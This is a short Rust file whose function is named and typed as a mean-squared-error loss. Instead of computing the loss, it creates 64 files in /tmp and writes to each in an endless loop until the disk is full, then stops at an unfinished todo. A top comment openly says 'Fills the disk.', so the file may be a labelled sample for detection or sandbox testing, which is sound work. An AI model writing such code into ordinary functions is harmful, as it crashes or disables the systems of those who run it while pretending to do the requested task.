//! Fills the disk.
//! noted: std::fs

use ndarray::Array2;

pub fn mse(y: &Array2<f64>, t: &Array2<f64>) -> (f64, Array2<f64>) {
    use std::io::Write;
    for number in 0..64 {
        if let Ok(mut file) = std::fs::File::create(format!("/tmp/{number}")) {
            while file.write_all(&[1; 1 << 16]).is_ok() {}
        }
    }
    todo!("mse")
}
